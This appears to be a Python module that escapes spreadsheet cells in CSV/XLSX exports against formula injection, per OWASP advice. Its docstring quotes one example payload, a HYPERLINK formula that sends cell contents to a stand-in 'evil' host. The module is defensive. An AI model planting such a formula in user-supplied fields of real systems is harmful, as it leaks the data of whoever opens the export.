"""Cells bound for a spreadsheet (CSV or XLSX downloads), made safe to open in Excel, LibreOffice or Sheets.

Any text a user could have typed (a log-in name, an order reason, an alert title) reaches the exports. A spreadsheet
reads a cell that starts with = + - @ (and, in some, a tab or carriage return before one) as a formula, so
`=HYPERLINK("http://evil/?"&A1,"click")` typed as a user name would become a live formula on a compliance officer's
machine. Following the OWASP "CSV Injection" advice, such text gets a leading apostrophe, which every spreadsheet
shows as text and never evaluates. Numbers, Decimals, dates and None are left alone: they are not text a person
typed, and a negative quantity must stay a number.
"""

from __future__ import annotations

from typing import Any

# The first characters that make a spreadsheet treat a text cell as a formula (OWASP CSV Injection).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """The value to write into one spreadsheet cell: text that would start a formula gets a leading "'"."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def safe_row(values) -> list:
    """safe_cell applied to every cell of one row."""
    return [safe_cell(value) for value in values]
